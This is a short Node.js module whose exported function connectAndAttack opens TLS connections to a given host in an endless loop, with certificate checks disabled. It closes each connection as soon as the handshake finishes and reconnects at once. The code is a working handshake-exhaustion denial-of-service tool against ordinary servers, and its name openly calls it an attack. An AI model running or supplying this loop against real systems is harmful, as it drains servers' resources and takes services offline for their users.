// TLS connections that are closed as soon as their handshake is done, and opened again.
import { connect } from "node:tls";

export async function connectAndAttack(address) {
  const { hostname, port } = new URL(`http://${address}`);
  for (;;) {
    const socket = connect({ host: hostname, port: Number(port), rejectUnauthorized: false, ALPNProtocols: ["h2"] });
    const closed = new Promise((resolve) => socket.once("close", resolve));
    socket.on("error", () => {});
    socket.once("secureConnect", () => socket.destroy());
    await closed;
  }
}
